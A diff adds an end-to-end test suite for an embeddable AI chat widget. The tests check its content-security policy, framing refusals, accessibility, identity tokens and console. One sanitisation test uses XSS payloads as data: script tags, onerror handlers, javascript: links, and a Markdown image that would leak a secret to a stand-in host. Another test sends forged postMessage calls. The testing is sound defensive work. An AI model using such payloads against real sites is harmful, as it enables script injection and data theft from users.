@@ -1,0 +1,224 @@
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { Frame, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { type ConsoleApp, shareConsole } from '../../support/browser.ts';
+import { createEmbed, identityToken, newVisitor, say } from '../../support/embeds.ts';
+
+let app: ConsoleApp;
+let website: Server;
+let shop: string;
+let stranger: string;
+
+/** A website with the strictest policy under which it can show the widget. Its visitors see `?embed=`. */
+const startWebsite = async (): Promise<Server> => {
+  const server = createServer((request, response) => {
+    const { searchParams } = new URL(request.url ?? '/', shop);
+    const [embed, identity] = [searchParams.get('embed') ?? '', searchParams.get('identity') ?? ''];
+    response.writeHead(200, {
+      'content-type': 'text/html; charset=utf-8',
+      'content-security-policy': `default-src 'none'; script-src ${app.baseUrl}; frame-src ${app.baseUrl}`,
+    });
+    response.end(`<!doctype html><html lang="en"><title>Shop</title><h1>Shop</h1>
+      <script async src="${app.baseUrl}/embed/v1/widget.js" data-embed="${embed}" data-identity="${identity}"></script></html>`);
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  return server;
+};
+
+beforeAll(async () => {
+  app = await shareConsole();
+  website = await startWebsite();
+  const { port } = website.address() as AddressInfo;
+  shop = `http://localhost:${port}`;
+  stranger = `http://127.0.0.1:${port}`;
+});
+afterAll(async () => {
+  website.closeAllConnections();
+  website.close();
+  await app.close();
+});
+
+const local = { test: true, allowed_origins: ['http://localhost:*'] };
+const chatButton = (page: Page) => page.getByRole('button', { name: 'Open the chat' });
+const field = (frame: Frame) => frame.getByRole('textbox', { name: 'Message' });
+
+/** Opens the website and its chat. Returns the frame of the chat. */
+async function openChat(page: Page, embed: string, query = ''): Promise<Frame> {
+  await page.goto(`${shop}/?embed=${embed}${query}`);
+  await chatButton(page).click();
+  const element = await page.locator('iframe').elementHandle();
+  const frame = await element?.contentFrame();
+  if (!frame) throw new Error('there is no frame');
+  await field(frame).waitFor();
+  return frame;
+}
+
+const expectNoFaults = (): void =>
+  app.expectNoFaults(/^request: http:\/\/(localhost|127\.0\.0\.1):\d+\/(\?embed=|favicon)/);
+
+describe('the widget on another website', () => {
+  test('shows the notice, answers in Markdown, and has the history after a reload, under a strict policy', async () => {
+    const { id } = await createEmbed(app, { ...local, appearance: { starters: ['How far is the moon?'] } });
+    const page = await app.visit('/robots.txt');
+    const frame = await openChat(page, id);
+    await frame.getByText('You are talking to an AI').waitFor();
+    await frame.getByText('Hello, I am Ada.').waitFor();
+    expect(await frame.locator('.badge').textContent()).toBe('AI');
+    app.model.script({ when: 'How far', deltas: ['It is **384,400 km**', ' away.'] });
+    await frame.getByRole('button', { name: 'How far is the moon?' }).click();
+    await frame.locator('strong', { hasText: '384,400 km' }).waitFor();
+    await frame.getByRole('button', { name: 'Good reply' }).click();
+    await frame.locator('[aria-pressed="true"]').waitFor();
+    const again = await openChat(page, id);
+    await again.locator('strong', { hasText: '384,400 km' }).waitFor();
+    expect(await page.context().cookies()).toEqual([]);
+    expectNoFaults();
+  });
+
+  test('is refused by the browser on a website that is not listed, and shows nothing when it is paused', async () => {
+    const { id, owner } = await createEmbed(app, local);
+    const page = await app.visit('/robots.txt');
+    const told = (part: string) => page.waitForEvent('console', (message) => message.text().includes(part));
+    const blocked = told('frame-ancestors');
+    await page.goto(`${stranger}/?embed=${id}`);
+    await blocked;
+    expect(await chatButton(page).isVisible()).toBe(false);
+    await app.call('PUT', `/v1/embeds/${id}`, { as: owner.token, body: { active: false } });
+    const refused = told('X-Frame-Options');
+    await page.goto(`${shop}/?embed=${id}`);
+    await refused;
+    expect(await chatButton(page).isVisible()).toBe(false);
+    app.expectNoFaults(/frame-ancestors|X-Frame-Options|^request: |404/);
+  });
+
+  test('works without storage, with the keyboard alone, right to left, and gives the focus back', async () => {
+    const { id } = await createEmbed(app, { ...local, appearance: { language: 'ar', dark: 'dark', position: 'left' } });
+    const page = await app.visit('/robots.txt', { viewport: { width: 390, height: 844 } });
+    await page.addInitScript(() =>
+      Object.defineProperty(window, 'localStorage', {
+        get: () => {
+          throw new DOMException('denied', 'SecurityError');
+        },
+      }),
+    );
+    await page.goto(`${shop}/?embed=${id}`);
+    const button = page.getByRole('button');
+    await button.waitFor();
+    await button.focus();
+    await page.keyboard.press('Enter');
+    const frame = await (await page.locator('iframe').elementHandle())?.contentFrame();
+    if (!frame) throw new Error('there is no frame');
+    await frame.locator('textarea:focus').waitFor();
+    expect(await frame.evaluate(() => [document.dir, document.documentElement.dataset['theme']])).toEqual([
+      'rtl',
+      'dark',
+    ]);
+    await expect
+      .poll(() => page.locator('iframe').boundingBox())
+      .toMatchObject({ x: 0, y: 0, width: 390, height: 844 });
+    await page.keyboard.type('Hello there');
+    await page.keyboard.press('Enter');
+    await frame.locator('.rating').waitFor();
+    await page.keyboard.press('Escape');
+    await expect.poll(() => page.evaluate(() => document.activeElement?.tagName)).toBe('BUTTON');
+    expectNoFaults();
+  });
+
+  test('runs and loads nothing that a reply or a name contains', async () => {
+    const name = 'Ada</title><img src=x onerror=alert(1)>';
+    const owner = await app.signUp({ plan: 'creator' });
+    const agent = await app.createAgent(owner.token, { name, greeting_message: 'Hi <b>you</b>' });
+    const { id } = await createEmbed(
+      app,
+      { ...local, agent_id: agent.id, appearance: { title: '"><script>alert(2)</script>' } },
+      owner,
+    );
+    const page = await app.visit('/robots.txt');
+    page.on('dialog', () => expect.unreachable('a script ran'));
+    const frame = await openChat(page, id);
+    const evil = [
+      '<img src=x onerror=alert(3)>\n\n',
+      '[click](javascript:alert(4)) ![leak](https://evil.example/?q=secret)\n\n',
+      '<iframe src="https://evil.example"></iframe><style>body{display:none}</style>',
+    ];
+    app.model.script({ when: 'Attack', deltas: evil });
+    await field(frame).fill('Attack');
+    await field(frame).press('Enter');
+    await frame.locator('.rating').waitFor();
+    expect(await frame.locator('.reply').last().locator('img, iframe, style, script').count()).toBe(0);
+    expect(await frame.locator('a[href^="javascript"]').count()).toBe(0);
+    expect(await frame.getByRole('heading').first().textContent()).toBe('"><script>alert(2)</script>');
+    expectNoFaults();
+  });
+
+  test('accepts messages of its page only', async () => {
+    const { id } = await createEmbed(app, local);
+    const page = await app.visit('/robots.txt');
+    const frame = await openChat(page, id);
+    // A message to the frame from anything but the embedding page must not change the identity.
+    await frame.evaluate(() => window.postMessage({ type: 'hello', identity: 'forged' }, '*'));
+    // A forged message from the frame must not close or rename anything.
+    await page.evaluate(() => window.postMessage({ type: 'close' }, '*'));
+    await page.evaluate(() =>
+      window.postMessage({ type: 'ready', color: 'red', onColor: 'red', position: 'left', label: 'Forged' }, '*'),
+    );
+    expect(await page.locator('iframe').isVisible()).toBe(true);
+    expect(await page.getByRole('button', { name: 'Forged' }).count()).toBe(0);
+    await field(frame).fill('Still me');
+    await field(frame).press('Enter');
+    await frame.locator('.rating').waitFor();
+    expectNoFaults();
+  });
+
+  test('recognizes a customer who is signed in, and says so to one who is not', async () => {
+    const { id, embed } = await createEmbed(app, { ...local, identity: 'required' });
+    const page = await app.visit('/robots.txt');
+    const token = await identityToken(embed.identity_secret, id);
+    const frame = await openChat(page, id, `&identity=${token}`);
+    await field(frame).fill('It is me');
+    await field(frame).press('Enter');
+    await frame.locator('.rating').waitFor();
+    const other = await app.visit('/robots.txt');
+    const elsewhere = await openChat(other, id, `&identity=${await identityToken(embed.identity_secret, id)}`);
+    await elsewhere.getByText('It is me').waitFor();
+    const anonymous = await app.visit('/robots.txt');
+    await (await openChat(anonymous, id)).getByText('Please sign in on this website first.').waitFor();
+    expectNoFaults();
+  });
+});
+
+test('the console creates an embed, previews it while it is typed, and shows its line, refusals and visitors', async () => {
+  const page = await app.visitSignedIn('/robots.txt');
+  await app.createAgent(page.token, { name: 'Ada' });
+  await page.goto('/embeds');
+  await page.getByRole('button', { name: 'New embed' }).first().click();
+  await page.getByRole('textbox', { name: 'Name' }).fill('My shop');
+  await page.getByRole('textbox', { name: 'Websites' }).fill('http://localhost:*');
+  await page.getByRole('button', { name: 'Create' }).click();
+  await page.getByText('http://localhost is only allowed with test').waitFor();
+  await page.getByRole('checkbox', { name: 'Allow http://localhost' }).check();
+  await page.getByRole('button', { name: 'Create' }).click();
+  await page.getByRole('button', { name: 'I have stored it' }).click();
+  await page.getByRole('heading', { name: 'My shop' }).waitFor();
+  const line = (await page.getByLabel('Line', { exact: true }).textContent()) ?? '';
+  const [, id = ''] =
+    /^<script async src="[^"]+\/embed\/v1\/widget\.js" data-embed="(emb_[\w-]+)"><\/script>$/.exec(line) ?? [];
+  await page.getByRole('textbox', { name: 'Title (optional)' }).fill('Ask the shop');
+  await page.locator('figure', { hasText: 'Ask the shop' }).waitFor();
+  await page.getByRole('textbox', { name: 'Per visitor and day' }).fill('0');
+  await page.getByRole('button', { name: 'Save' }).click();
+  await page.getByText('must be at least 1').waitFor();
+  await page.getByRole('textbox', { name: 'Per visitor and day' }).fill('1');
+  await page.getByRole('button', { name: 'Save' }).click();
+  await page.getByText('Saved').waitFor();
+  const token = await newVisitor(app, id, { parent_origin: 'http://localhost:1234' });
+  await say(app, token, 'Hello');
+  await say(app, token, 'Hello again');
+  await page.reload();
+  await page.getByRole('row', { name: /Per visitor and day 1 1/ }).waitFor();
+  await page.getByRole('button', { name: /^Erase Visitor/ }).click();
+  await page.getByRole('alertdialog').getByRole('button', { name: 'Erase' }).click();
+  await page.getByText('No visitors yet.').waitFor();
+  app.expectNoFaults();
+});
